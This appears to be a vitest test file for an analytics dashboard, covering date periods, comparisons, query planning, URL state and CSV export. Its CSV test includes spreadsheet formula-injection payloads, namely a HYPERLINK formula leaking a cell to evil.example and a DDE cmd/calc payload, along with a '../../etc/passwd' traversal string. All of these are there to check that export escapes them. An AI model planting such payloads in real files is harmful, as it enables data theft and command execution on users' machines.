// The dashboard's pure logic: its date ranges, its mirror of the one-dimension model (checked
// against the server's own query planner), its URL state and its CSV.
import { describe, expect, it } from 'vitest'
import { apiFilters, goalBreaks, metricAvailable, METRICS, panelAvailable } from '../../dashboard/src/model.ts'
import { toCsv } from '../../dashboard/src/panels.ts'
import { PANELS } from '../../dashboard/src/panels.ts'
import { csvFileName, fileSafe, nextSort, orderBy, panelQuery, type PanelEnv } from '../../dashboard/src/panels.ts'
import { addDays, addMonths, comparedRange, dayIn, partialBucket, previousRange, resolvePeriod, stepRange, wallTimeAfter } from '../../dashboard/src/periods.ts'
import { changeBetween, combined, isEmpty, untilTimeOfDay, type HourRow } from '../../dashboard/src/compare.ts'
import { readState, writeState } from '../../dashboard/src/state.ts'
import type { Boot } from '../../dashboard/src/boot.ts'
import { goalQuery } from '../../server/stats/goals.ts'
import { dayOf } from '../../server/time.ts'
import { plan, PlanError, type Plan } from '../../server/stats/plan.ts'
import type { Site } from '../../server/sites/sites.ts'
import { queryRequest } from '../../server/stats/request.ts'

const TODAY = '2026-11-22'

describe('periods', () => {
  it('steps a range back and forward with the arrow keys, never past today', () => {
    const step = (p: Parameters<typeof resolvePeriod>[0], dir: -1 | 1, o = {}) => stepRange(resolvePeriod(p, TODAY, o), dir, TODAY)
    expect(step('7d', -1)).toEqual({ from: '2026-11-09', to: '2026-11-15' })
    expect(step('7d', 1)).toBeUndefined()
    expect(step('yesterday', 1)).toEqual({ from: TODAY, to: TODAY })
    expect(step('lastmonth', -1)).toEqual({ from: '2026-09-01', to: '2026-09-30' })
    expect(step('lastmonth', 1)).toEqual({ from: '2026-11-01', to: TODAY })
    expect(step('custom', 1, { from: '2026-10-01', to: '2026-10-10' })).toEqual({ from: '2026-10-11', to: '2026-10-20' })
    expect(step('custom', 1, { from: '2026-11-10', to: '2026-11-20' })).toEqual({ from: '2026-11-21', to: TODAY })
    expect(step('all', -1, { created: '2025-01-01' })).toBeUndefined()
  })

  it('resolves every period to days of the server time zone, with a granularity', () => {
    const r = (p: Parameters<typeof resolvePeriod>[0], o = {}) => {
      const x = resolvePeriod(p, TODAY, o)
      return [x.from, x.to, x.granularity, x.apiRange]
    }
    expect(r('day')).toEqual([TODAY, TODAY, 'hour', 'day'])
    expect(r('yesterday')).toEqual(['2026-11-21', '2026-11-21', 'hour', 'yesterday'])
    expect(r('7d')).toEqual(['2026-11-16', TODAY, 'day', '7d'])
    expect(r('30d')).toEqual(['2026-10-24', TODAY, 'day', '30d'])
    expect(r('month')).toEqual(['2026-11-01', TODAY, 'day', 'month'])
    expect(r('lastmonth')).toEqual(['2026-10-01', '2026-10-31', 'day', ['2026-10-01', '2026-10-31']])
    expect(r('12mo')).toEqual(['2025-12-01', TODAY, 'month', '12mo'])
    expect(r('all', { created: '2025-03-04' })).toEqual(['2025-03-04', TODAY, 'month', 'all'])
    expect(r('all', { created: '2026-11-10' })).toEqual(['2026-11-10', TODAY, 'day', 'all'])
    expect(r('custom', { from: '2026-11-05', to: '2026-11-01' })).toEqual(['2026-11-01', '2026-11-05', 'day', ['2026-11-01', '2026-11-05']])
    expect(r('custom', { from: '2026-02-30', to: '2026-03-01' })).toEqual(['2026-10-24', TODAY, 'day', '30d'])
  })

  it("names the day of an instant as the server does, in the server's time zone", () => {
    const instants = ['2026-03-28T21:59:59Z', '2026-03-28T22:00:00Z', '2026-10-24T20:59:59Z', '2026-10-24T21:00:00Z', '2026-12-31T23:30:00Z']
    for (const tz of ['Europe/Riga', 'UTC', 'America/Los_Angeles', 'Asia/Kathmandu']) {
      for (const iso of instants) expect(dayIn(iso, tz), `${iso} in ${tz}`).toBe(dayOf(Date.parse(iso), tz))
    }
    expect(dayIn('2026-11-21T22:30:00.000Z', 'Europe/Riga')).toBe('2026-11-22')
  })

  it('compares with the period just before, months moved by months', () => {
    const prev = (p: Parameters<typeof resolvePeriod>[0]) => previousRange(resolvePeriod(p, TODAY, { created: '2025-01-01' }))
    expect(prev('day')).toEqual({ from: '2026-11-21', to: '2026-11-21' })
    expect(prev('30d')).toEqual({ from: '2026-09-24', to: '2026-10-23' })
    expect(prev('month')).toEqual({ from: '2026-10-10', to: '2026-10-31' })
    expect(prev('lastmonth')).toEqual({ from: '2026-09-01', to: '2026-09-30' })
    expect(prev('12mo')).toEqual({ from: '2024-12-01', to: '2025-11-30' })
    expect(prev('all')).toBeUndefined()
    expect(addMonths('2026-03-31', -1)).toBe('2026-02-28')
    expect(addMonths('2024-02-29', 12)).toBe('2025-02-28')
  })
})

describe('comparisons, like with like', () => {
  // Today from the clock: month ends, leap days and year turns come round as the days pass.
  const today = new Date().toISOString().slice(0, 10)
  const monthStart = `${today.slice(0, 8)}01`
  const at = { today, minute: 13 * 60 + 37 }
  const compared = (p: Parameters<typeof resolvePeriod>[0], o: { created?: string; from?: string; to?: string } = {}) =>
    comparedRange(resolvePeriod(p, today, o), at, o.created)

  it('compares today until now with yesterday until the same time of day', () => {
    expect(compared('day')).toEqual({ from: addDays(today, -1), to: addDays(today, -1), untilMinute: 817, beforeSite: false })
  })

  it('compares days under way with as many days before, the last cut at the time of day', () => {
    expect(compared('7d')).toEqual({ from: addDays(today, -13), to: addDays(today, -7), untilMinute: 817, beforeSite: false })
    expect(compared('30d')).toEqual({ from: addDays(today, -59), to: addDays(today, -30), untilMinute: 817, beforeSite: false })
    // This month (1st to today) with the same number of days before the 1st.
    const elapsed = Math.round((Date.parse(today) - Date.parse(monthStart)) / 86_400_000) + 1
    expect(compared('month')).toEqual({ from: addDays(monthStart, -elapsed), to: addDays(monthStart, -1), untilMinute: 817, beforeSite: false })
    expect(compared('custom', { from: addDays(today, -2), to: today })).toEqual({ from: addDays(today, -5), to: addDays(today, -3), untilMinute: 817, beforeSite: false })
  })

  it('compares months under way with the same days of the months a year (or a span) before', () => {
    expect(compared('12mo')).toEqual({ from: addMonths(monthStart, -23), to: addMonths(today, -12), untilMinute: 817, beforeSite: false })
    const from = addMonths(monthStart, -5)
    expect(compared('custom', { from, to: today })).toEqual({ from: addMonths(from, -6), to: addMonths(today, -6), untilMinute: 817, beforeSite: false })
  })

  it('compares closed ranges whole', () => {
    expect(compared('yesterday')).toEqual({ from: addDays(today, -2), to: addDays(today, -2), beforeSite: false })
    expect(compared('lastmonth')).toEqual({ from: addMonths(monthStart, -2), to: addDays(addMonths(monthStart, -1), -1), beforeSite: false })
    expect(compared('custom', { from: addDays(today, -9), to: addDays(today, -5) })).toEqual({ from: addDays(today, -14), to: addDays(today, -10), beforeSite: false })
    expect(compared('all', { created: addDays(today, -400) })).toBeUndefined()
  })

  it('has nothing to compare with before the site was added', () => {
    expect(compared('day', { created: today })?.beforeSite).toBe(true)
    expect(compared('day', { created: addDays(today, -1) })?.beforeSite).toBe(false)
    expect(compared('30d', { created: addDays(today, -40) })?.beforeSite).toBe(true)
    // Not a year before the 12 months: "↑1404 %" against months without the site.
    expect(compared('12mo', { created: addMonths(monthStart, -23) })?.beforeSite).toBe(false)
    expect(compared('12mo', { created: addMonths(monthStart, -13) })?.beforeSite).toBe(true)
  })

  it('moves the wall clock on across midnight', () => {
    expect(wallTimeAfter({ today, minute: 23 * 60 + 59 }, 59_999)).toEqual({ today, minute: 23 * 60 + 59 })
    expect(wallTimeAfter({ today, minute: 23 * 60 + 59 }, 60_000)).toEqual({ today: addDays(today, 1), minute: 0 })
    expect(wallTimeAfter(at, 2 * 86_400_000)).toEqual({ today: addDays(today, 2), minute: 817 })
  })

  it('names the bucket under way, in ranges that include today only', () => {
    expect(partialBucket(resolvePeriod('day', today), 'hour', at)).toBe(`${today} 13:00:00`)
    expect(partialBucket(resolvePeriod('30d', today), 'day', at)).toBe(today)
    expect(partialBucket(resolvePeriod('12mo', today), 'month', at)).toBe(monthStart)
    expect(partialBucket(resolvePeriod('yesterday', today), 'hour', at)).toBeUndefined()
    expect(partialBucket(resolvePeriod('lastmonth', today), 'day', at)).toBeUndefined()
  })
})

describe('a day until a time of day', () => {
  // The site's hours: 10 pageviews, 5 visits, 4 visitors an hour; bounce rate 40 % before noon, 60 % after.
  const hours: HourRow[] = Array.from({ length: 24 }, (_, hour) => ({
    hour,
    values: { pageviews: 10, visits: 5, visitors: 4, bounce_rate: hour < 12 ? 40 : 60, time_on_page: null },
  }))
  const day = { pageviews: 240, visits: 120, visitors: 60, bounce_rate: 50, time_on_page: 30 }
  const metrics = ['visitors', 'visits', 'pageviews', 'bounce_rate', 'time_on_page'] as const

  it('sums the hours before it, the hour under way by its minutes; visitors in proportion', () => {
    const part = untilTimeOfDay(day, hours, 13 * 60 + 30, [...metrics])
    expect(part.pageviews).toBe(135)
    expect(part.visits).toBe(67.5)
    // 54 of the day's 96 hourly visitors came before: as many of its 60 unique visitors.
    expect(part.visitors).toBeCloseTo((60 * 54) / 96)
    // Hours before 13:30 average (12·40 + 1.5·60) / 13.5 against the day's 50.
    expect(part.bounce_rate).toBeCloseTo((12 * 40 + 1.5 * 60) / 13.5)
    // No hourly time on page to go by: the day's own.
    expect(part.time_on_page).toBe(30)
    expect(untilTimeOfDay(day, hours, 0, [...metrics]).pageviews).toBe(0)
    expect(untilTimeOfDay(day, hours, 24 * 60, [...metrics])).toEqual(day)
  })

  it("scales a filtered day's totals by the site's hours, and a day without hours by the clock", () => {
    expect(untilTimeOfDay({ pageviews: 24 }, hours, 6 * 60, ['pageviews']).pageviews).toBe(6)
    expect(untilTimeOfDay({ pageviews: 24 }, [], 6 * 60, ['pageviews']).pageviews).toBe(6)
  })

  it('adds sums of two parts and averages ratios over their visits', () => {
    const both = combined({ visits: 200, visitors: 100, bounce_rate: 30 }, { visits: 50, visitors: 20, bounce_rate: 60 }, ['visitors', 'visits', 'bounce_rate'])
    expect(both).toEqual({ visitors: 120, visits: 250, bounce_rate: 36 })
    expect(combined({ pageviews: 0, time_on_page: null }, { pageviews: 4, time_on_page: 12 }, ['pageviews', 'time_on_page'])).toEqual({ pageviews: 4, time_on_page: 12 })
  })

  it('shows no change where the previous period has nothing', () => {
    expect(changeBetween('visitors', 40, 48)).toBe(-17)
    expect(changeBetween('visitors', 40, 0)).toBeUndefined()
    expect(changeBetween('visitors', 40, 0.3)).toBeUndefined()
    expect(changeBetween('visit_duration', 40, 0)).toBeUndefined()
    expect(changeBetween('bounce_rate', 40, 45.2)).toBe(-5)
    expect(isEmpty({ visitors: 0.2, pageviews: 0.4, bounce_rate: 0 }, ['visitors', 'pageviews', 'bounce_rate'])).toBe(true)
    expect(isEmpty({ visitors: 1, pageviews: 3 }, ['visitors', 'pageviews'])).toBe(false)
  })
})

describe('the one-dimension model, as the server plans it', () => {
  const SITE = { domain: 'example.lv', settings: { sections: [], sectionsSince: '2026-11-20' } }
  const dims = [undefined, ...new Set(PANELS.flatMap((p) => p.views.map((v) => v.dim)))]
  for (const from of ['2026-11-01', '2026-11-21']) {
    it(`offers exactly the metrics the server answers (from ${from})`, () => {
      for (const dim of dims) {
        for (const metric of METRICS) {
          const body = { site_id: 'example.lv', date_range: '7d', metrics: [metric], ...(dim ? { filters: [['is', dim, ['x']]] } : {}) }
          let answered = true
          try {
            plan(queryRequest.parse(body), SITE, { from, to: '2026-11-22' })
          } catch (err) {
            if (!(err instanceof PlanError)) throw err
            answered = false
          }
          expect(metricAvailable(metric, dim, { from, sectionsSince: '2026-11-20' }), `${metric} with ${dim}`).toBe(answered)
        }
      }
    })
  }

  it('asks panels only for what the server answers', () => {
    for (const panel of PANELS) {
      for (const view of panel.views) {
        const metrics = view.metrics.filter((m) => metricAvailable(m, view.dim, { from: '2026-11-01' }))
        expect(metrics.length, view.id).toBeGreaterThan(0)
        const body = { site_id: 'example.lv', date_range: '7d', metrics, dimensions: [view.dim], filters: [['is', view.dim, ['x']], ...(view.filters ?? [])] }
        expect(() => plan(queryRequest.parse(body), SITE, { from: '2026-11-21', to: '2026-11-22' }), view.id).not.toThrow()
      }
    }
  })

  it('shows a panel under a filter only for the same dimension', () => {
    expect(panelAvailable('event:page', undefined)).toBe(true)
    expect(panelAvailable('event:page', { dim: 'event:page', value: '/' })).toBe(true)
    expect(panelAvailable('visit:source', { dim: 'event:page', value: '/' })).toBe(false)
    const body = { site_id: 'example.lv', date_range: '7d', metrics: ['visitors'], dimensions: ['visit:source'], filters: [['is', 'event:page', ['/']]] }
    expect(() => plan(queryRequest.parse(body), SITE, { from: '2026-11-21', to: '2026-11-22' })).toThrow(/no cross-tabulations/)
  })
})

describe('the goal view, as the server answers goals', () => {
  const since = Date.parse('2026-11-01T10:00:00Z')
  const site = { domain: 'example.lv', settings: { sections: [], goals: [{ id: 1, name: 'Signup', event: 'Signup', since }] } } as unknown as Site
  const asked: Plan[] = []
  const run = async (p: Plan) => (asked.push(p), { results: [], meta: {}, query: {} })
  const answer = (body: object, from = '2026-11-16') => goalQuery(queryRequest.parse(body), site, { from, to: TODAY }, run, 'UTC')
  const env: PanelEnv = { site: 'example.lv', range: resolvePeriod('7d', TODAY), filter: undefined, goal: 'Signup', ctx: { from: '2026-11-16' }, setFilter: () => {} }

  it("asks each panel a goal is kept by for its conversions and CR, and no other (the server's breakdowns)", async () => {
    for (const view of PANELS.flatMap((p) => p.views)) {
      expect(panelAvailable(view.dim, undefined, 'Signup'), view.id).toBe(goalBreaks(view.dim))
      const body = panelQuery(view, env, { limit: 9 })
      expect(body.metrics).toEqual(['visitors', 'group_conversion_rate'])
      expect(body.filters).toEqual([['is', 'event:goal', ['Signup']], ...(view.filters ?? [])])
      if (goalBreaks(view.dim)) await expect(answer({ ...body, filters: [['is', 'event:goal', ['Signup']]] }), view.id).resolves.toMatchObject({ results: [] })
      else await expect(answer(body), view.id).rejects.toMatchObject({ said: { code: 'goal_breakdown_unknown' } })
    }
  })

  it('takes the goal beside a filter on one dimension it is kept by, and refuses breakdowns before the goal was declared', async () => {
    expect(apiFilters({ dim: 'visit:country', value: 'LV' }, [], 'Signup')).toEqual([['is', 'event:goal', ['Signup']], ['is', 'visit:country', ['LV']]])
    const filters = apiFilters({ dim: 'visit:country', value: 'LV' }, [], 'Signup')
    await expect(answer({ site_id: 'example.lv', date_range: '7d', metrics: ['visitors', 'events', 'conversion_rate', 'total_revenue'], filters })).resolves.toBeDefined()
    await expect(answer({ site_id: 'example.lv', date_range: '30d', metrics: ['visitors'], dimensions: ['visit:source'], filters: apiFilters(undefined, [], 'Signup') }, '2026-10-24')).rejects.toMatchObject({
      said: { code: 'goal_breakdown_since', params: { since: '2026-11-01' } },
    })
  })
})

describe('URL state', () => {
  const boot: Boot = { mode: 'app', lang: 'en', today: TODAY, hour: 10, minute: 5, timezone: 'UTC', sites: [{ domain: 'a.lv', created: '2026-01-01' }, { domain: 'b.lv', created: '2026-01-01' }] }
  it('round-trips a bookmarked view', () => {
    const search = '?site=b.lv&period=custom&from=2026-11-01&to=2026-11-05&f=event%3Apage%3D%2Fa%3Db&goal=Order+%26+pay&metric=pageviews&lang=lv'
    const s = readState(search, boot)
    expect(s).toEqual({ site: 'b.lv', period: 'custom', from: '2026-11-01', to: '2026-11-05', filter: { dim: 'event:page', value: '/a=b' }, goal: 'Order & pay', metric: 'pageviews', lang: 'lv' })
    expect(readState(writeState(s, false), boot)).toEqual(s)
  })
  it('falls back to the first site and 30 days', () => {
    expect(readState('?site=evil.lv&period=nope&metric=x', boot)).toEqual({ site: 'a.lv', period: '30d', metric: 'visitors' })
    expect(writeState(readState('', boot), true)).toBe('')
  })
})

describe('CSV', () => {
  it('quotes what needs quoting and leaves numbers as the API sent them', () => {
    expect(toCsv(['page', 'visitors'], [['/a,b', 3], ['/"q"', null], ['/x', 1.5]])).toBe('page,visitors\r\n"/a,b",3\r\n"/""q""",\r\n/x,1.5\r\n')
  })

  it('neutralises text that a spreadsheet would run as a formula, never a number', () => {
    const rows: [string, number][] = [
      ['=HYPERLINK("http://evil.example/?"&A1,"x")', 1],
      ["+cmd|' /C calc'!A0", -2],
      ['-2+3', 3],
      ['@SUM(1)', 4],
      ['\t=1', 5],
      ['\r=1', 6],
    ]
    expect(toCsv(['name', 'visitors'], rows)).toBe(
      'name,visitors\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1\r\n` +
        "'+cmd|' /C calc'!A0,-2\r\n" +
        "'-2+3,3\r\n" +
        "'@SUM(1),4\r\n" +
        "'\t=1,5\r\n" +
        `"'\r=1",6\r\n`,
    )
  })
})

describe('a Details list', () => {
  it('sorts a column its natural way first, then turns it round', () => {
    const byVisitors = { key: 'visitors', dir: 'desc' } as const
    expect(nextSort(byVisitors, 'visitors', 'event:page')).toEqual({ key: 'visitors', dir: 'asc' })
    expect(nextSort({ key: 'visitors', dir: 'asc' }, 'visitors', 'event:page')).toEqual(byVisitors)
    expect(nextSort(byVisitors, 'pageviews', 'event:page')).toEqual({ key: 'pageviews', dir: 'desc' })
    expect(nextSort(byVisitors, 'event:page', 'event:page')).toEqual({ key: 'event:page', dir: 'asc' })
    // Ties by value, so that the pages of a list neither overlap nor leave rows out.
    expect(orderBy({ key: 'visitors', dir: 'asc' }, 'event:page')).toEqual([['visitors', 'asc'], ['event:page', 'asc']])
    expect(orderBy({ key: 'event:page', dir: 'desc' }, 'event:page')).toEqual([['event:page', 'desc']])
  })

  it('asks the server for every column of every view, searched and sorted, in a way it plans', () => {
    const SITE = { domain: 'example.lv', settings: { sections: [] } }
    const env: PanelEnv = { site: 'example.lv', range: resolvePeriod('7d', TODAY), filter: undefined, ctx: { from: '2026-11-16' }, setFilter: () => {} }
    for (const view of PANELS.flatMap((p) => p.views)) {
      const body = panelQuery(view, env, { limit: 100, offset: 0, search: 'a.b(' })
      for (const key of [view.dim, ...body.metrics]) {
        for (const dir of ['asc', 'desc'] as const) {
          const sorted = panelQuery(view, env, { limit: 100, offset: 100, search: 'a.b(', sort: { key, dir } })
          expect(sorted.filters).toContainEqual(['matches', view.dim, ['(?i)a\\.b\\(']])
          const planned = plan(queryRequest.parse(sorted), SITE, { from: '2026-11-16', to: TODAY })
          expect(planned.orderBy, `${view.id} by ${key}`).toEqual(orderBy({ key, dir }, view.dim))
        }
      }
    }
  })

  it("names a searched list's CSV after its search, made safe for a file name", () => {
    const range = { from: '2026-11-01', to: '2026-11-30' }
    expect(csvFileName('example.lv', 'pages', range)).toBe('example.lv-pages-2026-11-01-2026-11-30.csv')
    expect(csvFileName('example.lv', 'pages', range, '/blog/')).toBe('example.lv-pages-search-blog-2026-11-01-2026-11-30.csv')
    expect(csvFileName('example.lv', 'pages', range, '/')).toBe('example.lv-pages-search-2026-11-01-2026-11-30.csv')
    expect(fileSafe('../../etc/passwd')).toBe('etc-passwd')
    expect(fileSafe('a\\b:c*d?"<e>|')).toBe('a-b-c-d-e')
    expect(fileSafe('Rīga ēdieni')).toBe('Rīga-ēdieni')
    expect(fileSafe('x'.repeat(60))).toHaveLength(40)
    expect(fileSafe('\u0000\u001f/')).toBe('')
  })
})
